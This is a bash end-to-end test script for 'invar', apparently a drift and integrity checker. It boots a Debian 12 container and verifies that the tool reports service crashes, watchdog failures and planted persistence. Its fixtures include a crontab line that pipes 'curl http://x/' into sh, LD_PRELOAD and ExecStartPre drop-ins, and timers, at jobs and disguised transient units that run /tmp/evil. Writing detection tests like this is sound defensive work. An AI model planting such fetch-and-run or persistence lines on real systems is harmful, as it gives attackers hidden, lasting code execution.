#!/bin/bash
# Services and jobs of a booted Debian 12 with the rules that are shipped for them: quiet while its
# timers, jobs and restarts do what they do, the same view of what is enabled as systemctl has, and
# each way to die, to stay or to come back seen with its reason.
#
# INVAR is the program (default build/dev/invar). Needs root; prints TAP.
set -u
cd "$(dirname "$0")/../.." || exit 1
. tests/e2e/container.sh
. tests/e2e/tap.sh

INVAR=$(realpath "${INVAR:-build/dev/invar}")

# check: a check inside; its records in OUT, their summary a line each in FOUND: change, kind,
# key, severity, and the fields that changed, each with its new value.
check() {
	OUT=$CONTAINER_WORK/check.json
	FOUND=$CONTAINER_WORK/check.found
	container_run invar check --new --json >"$OUT" 2>"$CONTAINER_WORK/check.err"
	RC=$?
	/usr/bin/python3 - "$OUT" >"$FOUND" <<-'END'
		import json, sys
		for line in open(sys.argv[1], encoding="utf-8"):
		    r = json.loads(line)
		    if r.get("record") == "gap":
		        print("gap", r)
		    elif r.get("record") == "change":
		        now = r.get("is", r.get("was"))
		        names = r["fields"] or list(now)
		        print(r["change"], r["kind"], r["key"], r["severity"],
		              *(f"{n}={now.get(n)}" for n in names + ["journal"] if n in now))
	END
	cat "$CONTAINER_WORK/check.err" >>"$FOUND"
}

# silent TEXT: a check finds nothing.
silent() {
	check
	[ "$RC" = 0 ] && ! [ -s "$FOUND" ]
	point $? "$1" "$FOUND"
}

# seen TEXT START WORD…: the last check has a line that begins with START and has each WORD.
seen() {
	local text=$1 start=$2 line word
	shift 2
	line=$(awk -v start="$start" 'index($0, start) == 1 { print; exit }' "$FOUND")
	[ -n "$line" ] || { point 1 "$text" "$FOUND"; return; }
	for word in "$@"; do
		if [[ $line != *"$word"* ]]; then
			echo "no '$word' in: $line" >"$FOUND.why"
			point 1 "$text" "$FOUND.why"
			return
		fi
	done
	point 0 "$text"
}

container_need || skip_all "needs root and systemd-nspawn"
container_make || bail "no container"
install -D -m 0755 "$INVAR" "$CONTAINER_ROOT/usr/local/bin/invar" && container_libs "$INVAR" &&
	install -d "$CONTAINER_ROOT/etc/invar/policy.d" &&
	install -m 0644 rules/52-service.yaml rules/53-cron.yaml "$CONTAINER_ROOT/etc/invar/policy.d/" ||
	bail "cannot install"
cat >"$CONTAINER_ROOT/etc/systemd/system/probe.service" <<'END'
[Service]
ExecStart=/usr/bin/python3 -c "import time; print('at work', flush=True); time.sleep(1000)"
Restart=no
[Install]
WantedBy=multi-user.target
END
install -D -m 0644 /dev/stdin "$CONTAINER_ROOT/etc/systemd/system/dog.service" <<'END'
[Service]
Type=notify
NotifyAccess=all
WatchdogSec=1
ExecStart=/bin/sh -c "systemd-notify --ready; exec sleep 1000"
END
printf '[Service]\nType=oneshot\nRemainAfterExit=yes\nExecStart=/bin/true\n[Install]\nWantedBy=%s\n' \
	multi-user.target >"$CONTAINER_ROOT/etc/systemd/system/wall.service"
printf '[Service]\nExecStart=/bin/sh -c "echo bad config >&2; exit 3"\n' \
	>"$CONTAINER_ROOT/etc/systemd/system/three.service"
printf '#!/bin/sh\nexit 0\n' >"$CONTAINER_ROOT/opt/backup.sh"
chmod 755 "$CONTAINER_ROOT/opt/backup.sh"
container_boot || bail "no boot"
container_run sh -c 'systemctl enable -q --now probe wall; echo "17 3 * * * /opt/backup.sh" | crontab -'
sleep 1

# ---- the same view as systemd's own ----

container_run invar init >"$CONTAINER_WORK/init" 2>&1
point $? "a baseline of services and jobs" "$CONTAINER_WORK/init"
printf 'version: 1\nrules:\n  - { id: all, severity: low, kind: service, fields: [all] }\n' \
	>"$CONTAINER_ROOT/root/all.yaml"
container_run invar init --policy /root/all.yaml --state /root/all >/dev/null
container_run invar baseline show --policy /root/all.yaml --state /root/all --json \
	>"$CONTAINER_WORK/all.json"
container_run systemctl list-unit-files --no-legend --plain >"$CONTAINER_WORK/files"
/usr/bin/python3 - "$CONTAINER_WORK/all.json" "$CONTAINER_WORK/files" >"$CONTAINER_WORK/diff" <<'END'
import json, sys
mine, aliases = {}, set()
for line in open(sys.argv[1], encoding="utf-8"):
    r = json.loads(line)
    mine[r["key"]] = r["approved"]
    aliases |= set(r["approved"].get("aliases", []))
theirs = [line.split() for line in open(sys.argv[2], encoding="utf-8")]
for name, state, preset in theirs:
    if state == "alias" and name in aliases:
        continue
    is_ = mine.get(name, {})
    if is_.get("enabled") != state or is_.get("preset", "-") != preset:
        print(name, state, preset, is_)
if len(theirs) < 150:
    print("only", len(theirs), "unit files")
END
! [ -s "$CONTAINER_WORK/diff" ]
point $? "what is enabled is what systemctl says" "$CONTAINER_WORK/diff"
silent "nothing has changed since"

# ---- what happens by itself ----

container_run bash -u >/dev/null 2>&1 <<'END'
systemctl list-timers --all --no-legend --plain | grep -o '[^ ]*\.service' | sort -u |
	while read -r unit; do timeout 20 systemctl start "$unit"; done
for when in hourly daily weekly monthly; do timeout 20 run-parts "/etc/cron.$when"; done
systemctl daemon-reload
systemctl restart cron rsyslog ssh probe systemd-journald systemd-logind
systemd-run --quiet --wait true
timedatectl >/dev/null # starts systemd-timedated by a message
END
silent "timers, jobs, restarts and what a message starts are no change"

container_halt
container_boot || bail "no second boot"
silent "nor is a reboot"

# ---- what cannot be seen ----

# not_known TEXT WHY: a gap of kind service that says so, and no change
not_known() {
	check
	grep -q "^gap.*'service'.*$2" "$FOUND" && ! grep -v '^gap' "$FOUND" >"$FOUND.why"
	point $? "$1" "$FOUND"
}
container_run mount -t tmpfs none /run/systemd
not_known "what is below a mount on /run/systemd is not known" "lies under a mount"
printf '[Service]\nExecStart=/tmp/evil\n' >"$CONTAINER_ROOT/etc/systemd/system/later.service"
check
seen "files are compared all the same" "created service later.service high" "exec_start=['/tmp/evil']"
rm "$CONTAINER_ROOT/etc/systemd/system/later.service"
container_run umount /run/systemd
check >/dev/null
silent "and without it all is as before"
container_run mv /run/systemd/private /run/systemd/private.gone
container_run mv /run/dbus/system_bus_socket /run/dbus/gone
not_known "states are not known when systemd cannot be asked" "state of services is not known"
container_run mv /run/dbus/gone /run/dbus/system_bus_socket
silent "without its own socket it is asked by the bus"
container_run mv /run/systemd/private.gone /run/systemd/private

# ---- how a daemon dies ----

container_run bash -u >/dev/null 2>&1 <<'END'
systemctl kill -s SEGV probe
kill -SEGV $(systemctl show -P MainPID ssh)
kill -ABRT $(systemctl show -P MainPID systemd-udevd systemd-logind | tail -n 1)
systemctl stop rsyslog syslog.socket wall
systemctl start three
systemctl start dog
for _ in $(seq 300); do
	sleep 0.1
	[ "$(systemctl show -P Result dog)" = watchdog ] && break
done
sleep 0.5
END
check
seen "a daemon that crashed is failed, with its signal and last words" \
	"updated service probe.service high" "state=failed" "exit=signal 11 (SEGV)" \
	"at work" "code="
seen "one that systemd started again within a second is seen, too" \
	"updated service ssh.service high" "failures=1" "last_failure=signal 11 (SEGV)" \
	"Server listening"
seen "and one that is always started again" \
	"updated service systemd-logind.service high" "last_failure=signal 6 (ABRT)"
seen "one that was stopped is stopped" "updated service rsyslog.service high" "state=stopped"
seen "so is what a oneshot had set up" "updated service wall.service high" "state=stopped"
seen "an exit code and what went before it" "updated service three.service high" \
	"state=failed" "result=exit-code" "exit=exit code 3" "bad config"
seen "a watchdog that bit" "updated service dog.service high" "state=failed" "result=watchdog" \
	"Watchdog timeout"
container_run invar check >"$CONTAINER_WORK/text" 2>&1
grep -q 'signal 11 (SEGV)' "$CONTAINER_WORK/text" &&
	grep -q 'running → failed' "$CONTAINER_WORK/text" &&
	grep -q '^ *| .*: at work$' "$CONTAINER_WORK/text"
point $? "people read it" "$CONTAINER_WORK/text"
container_run bash -u >/dev/null 2>&1 <<'END'
systemctl reset-failed
systemctl start probe syslog.socket rsyslog wall
systemctl restart ssh
END
check
! container_run invar drift --json | grep -E '"key":"(probe|wall|ssh|rsyslog|three|dog).service"' \
	>"$CONTAINER_WORK/left"
point $? "put right, nothing of it stands" "$CONTAINER_WORK/left"

# ---- who wants to stay ----

container_run bash -u >/dev/null 2>&1 <<'END'
systemctl disable atd
systemctl mask anacron
mkdir -p /etc/systemd/system/cron.service.d /root/.config/systemd/user
printf '[Service]\nExecStartPre=/tmp/evil\nEnvironment=LD_PRELOAD=/tmp/evil.so\n' \
	>/etc/systemd/system/cron.service.d/90-x.conf
printf '[Service]\nExecStart=/tmp/evil\n' >/etc/systemd/system/update.service
printf '[Timer]\nOnCalendar=*:0/5\n[Install]\nWantedBy=timers.target\n' \
	>/etc/systemd/system/update.timer
printf '[Service]\nExecStart=/tmp/evil\n' >/root/.config/systemd/user/evil.service
systemctl daemon-reload
systemctl enable --now update.timer
systemd-run --unit=hidden sleep 1000
for name in packagekit esm-cache systemd-coredump@x ssh@evil dbus-:1.5-x; do
	systemd-run --unit="$name" sleep 1000
done
(crontab -l; echo '*/5 * * * * curl http://x/ | sh') | crontab -
echo '/tmp/evil' | at now + 1 day
printf '#!/bin/sh\n/tmp/evil\n' >/etc/cron.daily/evil
chmod 755 /etc/cron.daily/evil
echo /tmp/evil >>/opt/backup.sh
sed -i 's/^17/18/' /etc/crontab
END
check
seen "disabled" "updated service atd.service high" "enabled=disabled"
seen "masked" "updated service anacron.service high" "enabled=masked"
seen "a drop-in that runs something more" "updated service cron.service critical" \
	"exec_extra=['ExecStartPre=/tmp/evil'" "drop_ins=['/etc/systemd/system/cron.service.d/90-x"
seen "a new timer" "created service update.timer high" "state=waiting" "enabled=enabled" \
	"OnCalendar=*:0/5"
seen "as a job with its command" "created cron update.timer high" "command=/tmp/evil"
seen "a unit of a user" "created service user/root/evil.service high" "exec_start=['/tmp/evil']"
seen "a unit without a file" "created service hidden.service high" "enabled=transient"
for name in packagekit esm-cache systemd-coredump@x ssh@evil; do
	seen "not even as $name" "created service $name.service high" "exec_start=" "sleep"
done
seen "nor as a bus's" "created service dbus-:1.5-x.service medium" "enabled=transient"
seen "a line in a crontab" "created cron /var/spool/cron/crontabs/root:curl" \
	"schedule=*/5 * * * *"
seen "an at job" "created cron /var/spool/cron/atjobs/a" "command=/tmp/evil"
seen "a script in cron.daily" "created cron /etc/cron.daily/evil high"
seen "another script behind the same line" \
	"updated cron /var/spool/cron/crontabs/root:/opt/backup.sh high" "sha256="
seen "another schedule of the same job" \
	"updated cron /etc/crontab:root:cd / && run-parts --report /etc/cron.hourly high" \
	"schedule=18 * * * *"

# ---- who looks, and at what ----

container_run systemctl stop dbus.socket dbus.service >/dev/null 2>&1
check
! grep -q "^gap.*'\(service\|cron\)'" "$FOUND"
point $? "without a bus daemon systemd is still asked" "$FOUND"
container_run systemctl start dbus.socket >/dev/null 2>&1
container_halt
"$INVAR" init --root "$CONTAINER_ROOT" --policy "$CONTAINER_ROOT/root/all.yaml" \
	--state "$CONTAINER_WORK/offline" >"$CONTAINER_WORK/init" 2>&1 &&
	"$INVAR" baseline show --policy "$CONTAINER_ROOT/root/all.yaml" \
		--state "$CONTAINER_WORK/offline" --json |
	grep -q '"key":"ssh.service".*"enabled":"enabled".*"exec_start":\["/usr/sbin/sshd'
point $? "the image of the host tells what is enabled and what is run" "$CONTAINER_WORK/init"

echo "1..$POINTS"
exit $((FAILED > 0))
